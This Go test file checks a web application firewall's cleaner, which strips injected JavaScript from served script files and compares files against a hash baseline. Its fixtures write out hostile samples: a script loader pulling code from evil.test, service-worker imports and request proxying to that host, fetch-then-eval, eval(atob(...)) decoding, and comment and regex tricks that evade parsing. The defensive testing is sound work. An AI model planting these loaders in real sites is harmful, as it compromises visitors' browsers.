package clean

import (
	"crypto/sha256"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/lachan-waf/lachan/policies"
)

const loaderLine = `var s=document.createElement("script");s.src="https://evil.test/x.js";document.head.appendChild(s);` + "\n"

func TestScriptFileSignals(t *testing.T) {
	c := newCleaner(t, strict(t))
	library := strings.Repeat("function menu(a){return a.b?eval('('+a.c+')'):a.d(atob)}\n", 5000) // 290 kB
	for name, test := range map[string]struct{ in, want, reason string }{
		"harmless":              {library, library, ""},
		"address in a comment":  {"/* https://evil.test */" + library, "/* https://evil.test */" + library, ""},
		"address in a message":  {`throw"See https://evil.test/ or document.createElement('script')";` + library, `throw"See https://evil.test/ or document.createElement('script')";` + library, ""},
		"address, far away":     {`var a="https://evil.test/";` + library + `document.createElement("script")`, `var a="https://evil.test/";` + library + `document.createElement("script")`, ""},
		"in front":              {loaderLine + library, library, reasonLoadsScript},
		"behind":                {library + loaderLine, library, reasonLoadsScript},
		"packed":                {library + "eval(function(p,a,c,k,e,d){return p}('0',1,1,''.split('|'),0,{}))", library, reasonPacked},
		"decoder":               {library + `eval(atob("YWxlcnQoMSk="))`, library, reasonDecoder},
		"hidden host":           {library + `x="https:%2F%2F%65vil.test/x.js"`, library, reasonHiddenHost},
		"leads away":            {library + `location.href="https://evil.test/"`, library, reasonLeadsAway},
		"leads to an address":   {library + `location="http://192.0.2.7/"`, library, reasonLeadsAway},
		"worker by a string":    {`self["importScripts"]("https://evil.test/sw.js");`, "", reasonLoadsScript},
		"worker by a method":    {`importScripts.call(self, "https://evil.test/sw.js");`, "", reasonLoadsScript},
		"worker by a variable":  {`var u="https://evil.test/sw.js";importScripts(u);`, "", reasonLoadsScript},
		"worker by a scheme":    {`importScripts("https:evil.test/sw.js");`, "", reasonLoadsScript},
		"worker that answers":   {`onfetch=e=>e.respondWith(fetch("https://evil.test/"+e.request.url))`, "", reasonLoadsScript},
		"worker that redirects": {`onfetch=e=>e.respondWith(Response.redirect("https://evil.test/"))`, "", reasonLoadsScript},
		"worker that opens":     {`onnotificationclick=e=>clients.openWindow("https://evil.test/")`, "", reasonLoadsScript},
		"worker of the site":    {`self.addEventListener("fetch",e=>e.respondWith(fetch(e.request)))`, `self.addEventListener("fetch",e=>e.respondWith(fetch(e.request)))`, ""},
		"location by a name":    {`var l=window.location;l.href="https://evil.test/"`, "", reasonLeadsAway},
		"shared worker":         {`new SharedWorker("https://evil.test/w.js");`, "", reasonLoadsScript},
		"fetched and run":       {`fetch("https://evil.test/x").then(r=>r.text()).then(eval)`, "", reasonLoadsScript},
		"worker":                {`importScripts("https://evil.test/sw.js");`, "", reasonLoadsScript},
		"module":                {`import x from "https://evil.test/m.js";x()`, "", reasonLoadsScript},
		"module of the site":    {`import x from "./m.js";import y from"https://cdn.example/y.js"`, `import x from "./m.js";import y from"https://cdn.example/y.js"`, ""},
		"on the same line":      {strings.ReplaceAll(library, "\n", ";") + strings.TrimSpace(loaderLine), "", reasonLoadsScript},
		"a regular expression":  {`x=/[/*]/;` + strings.TrimSpace(loaderLine) + `y=/*/`, "", reasonLoadsScript},
		"a template":            {"x=`/*`;" + strings.TrimSpace(loaderLine) + "y=`*/`", "", reasonLoadsScript},
		"behind a condition":    {`if(1)/[/*]/.test("");` + strings.TrimSpace(loaderLine) + `/*]/*/`, "", reasonLoadsScript},
		"behind a block":        {`{}/\/*/.test("");` + strings.TrimSpace(loaderLine) + `/*/*/`, "", reasonLoadsScript},
		"a quotient":            {`x=(1)/"/ /*";` + strings.TrimSpace(loaderLine) + `"*/"`, "", reasonLoadsScript},
		"a quotient of steps":   {`x++/"/ /*";` + strings.TrimSpace(loaderLine) + `"*/"`, "", reasonLoadsScript},
		"opened and ended":      {"x=(1)/2/3+`\n/*`;" + strings.TrimSpace(loaderLine) + "/*`*/", "x=(1)/2/3+`\n", reasonLoadsScript},
		"nested templates":      {"x=`${`/*`}`;" + strings.TrimSpace(loaderLine) + "//*/", "", reasonLoadsScript},
		"an HTML comment":       {"<!-- /*\n" + strings.TrimSpace(loaderLine) + "//*/", "<!-- /*\n", reasonLoadsScript},
		"comment of a quotient": {"x=(a-b)/2/c;\ny=`${a/b}`;\n// (https://evil.test/) createElement('script')\n" + library, "x=(a-b)/2/c;\ny=`${a/b}`;\n// (https://evil.test/) createElement('script')\n" + library, ""},
		"players of a library":  {`a.createElement("script").src="https://player.vimeo.com/api/player.js"`, `a.createElement("script").src="https://player.vimeo.com/api/player.js"`, ""},
		"nothing":               {"", "", ""},
	} {
		for _, size := range []int{0, 1000} {
			out, findings := cleanBody(t, c, MediumJS, []byte(test.in), size)
			reason := ""
			if len(findings) > 0 {
				reason = strings.Join(findings[0].Reasons, " ")
			}
			if out != test.want || !strings.Contains(reason, test.reason) || (reason == "") != (test.reason == "") {
				t.Errorf("%s: %d bytes became %d, want %d: %+v", name, len(test.in), len(out), len(test.want), findings)
			}
		}
	}
}

// withFiles is a cleaner whose baseline knows versions of /tin-tuc/bai-1.html,
// the path of pageURL.
func withFiles(t *testing.T, versions ...string) *Cleaner {
	t.Helper()
	var text strings.Builder
	text.WriteString("files:\n  /tin-tuc/bai-1.html:\n")
	for _, v := range versions {
		fmt.Fprintf(&text, "    - {size: %d, sha256: %x}\n", len(v), sha256.Sum256([]byte(v)))
	}
	file := filepath.Join(t.TempDir(), "baseline.yaml")
	if err := os.WriteFile(file, []byte(text.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	baseline, err := policies.LoadBaseline(file)
	if err != nil {
		t.Fatal(err)
	}
	c, err := New(strict(t), baseline)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func TestScriptFileBaseline(t *testing.T) {
	const first, second = "a();\n", "a();\nb();\n"
	c := withFiles(t, first, second, loaderLine)
	for _, test := range []struct{ in, want, reason string }{
		{first, first, ""}, {second, second, ""}, {loaderLine, loaderLine, ""}, {first + "\n \n", first + "\n \n", ""},
		{first + "pwn()", first, reasonPlantedTail}, {second + "pwn()", second, reasonPlantedTail}, {loaderLine + loaderLine, loaderLine, reasonPlantedTail},
		{"c();\n", "c();\n", reasonChangedFile}, {"c();\n" + loaderLine, "c();\n", reasonChangedFile + " " + reasonLoadsScript},
	} {
		out, findings := cleanBody(t, c, MediumJS, []byte(test.in), 0)
		var reasons []string
		for _, f := range findings {
			reasons = append(reasons, f.Reasons...)
			if f.Removed == (f.Reasons[0] == reasonChangedFile) {
				t.Errorf("%+v", f)
			}
		}
		if out != test.want || strings.Join(reasons, " ") != test.reason {
			t.Errorf("%q became %q: %+v", test.in, out, findings)
		}
	}
}

func TestPathOf(t *testing.T) {
	for url, want := range map[string]string{
		"https://a.example/js/a.js?ver=1#x": "/js/a.js", "https://a.example": "/", "https://a.example/js//./x/../a%2Ejs": "/js/a.js", "https://a.example?/b": "/",
	} {
		if got := pathOf(url); got != want {
			t.Errorf("%s: %s, want %s", url, got, want)
		}
	}
}

// TestLongScriptFile: a file that is not held as a whole is judged at its head
// before it passes, and at its tail before that does.
func TestLongScriptFile(t *testing.T) {
	line := "function menu(a){return a.b}\n"
	library := strings.Repeat(line, 2*maxScriptFile/len(line))
	oneLine := strings.ReplaceAll(library, "\n", ";")
	tail := oneLine[:len(oneLine)-fileWindow+len(loaderLine)]
	for name, test := range map[string]struct{ in, want, reason string }{
		"harmless":           {library, library, ""},
		"in front":           {loaderLine + library, library, reasonLoadsScript},
		"in front, one line": {strings.TrimSpace(loaderLine) + oneLine, "", reasonLoadsScript},
		"behind":             {library + loaderLine, library, reasonLoadsScript},
		"behind, one line":   {oneLine + loaderLine, tail, reasonLoadsScript},
	} {
		for _, size := range []int{0, 50000} {
			out, findings := cleanBody(t, newCleaner(t, strict(t)), MediumJS, []byte(test.in), size)
			if out != test.want || (len(findings) > 0) != (test.reason != "") || len(findings) > 0 && findings[0].Reasons[0] != test.reason {
				t.Errorf("%s in pieces of %d: %d bytes became %d, want %d: %+v", name, size, len(test.in), len(out), len(test.want), findings)
			}
		}
	}
	c := withFiles(t, library, library[:maxScriptFile], "a()")
	for in, want := range map[string]string{library: library, library + "pwn()": library, library + strings.Repeat("pwn();", 1<<16): library} {
		out, findings := cleanBody(t, c, MediumJS, []byte(in), 0)
		if out != want || (len(findings) > 0) != (in != want) || len(findings) > 0 && findings[0].Reasons[0] != reasonPlantedTail {
			t.Errorf("%d bytes became %d, want %d: %+v", len(in), len(out), len(want), findings)
		}
	}
	if out, findings := cleanBody(t, c, MediumJS, []byte("x"+library), 0); len(out) != len(library)+1 || len(findings) != 1 || findings[0].Reasons[0] != reasonChangedFile {
		t.Errorf("%d bytes, %+v", len(out), findings)
	}
}
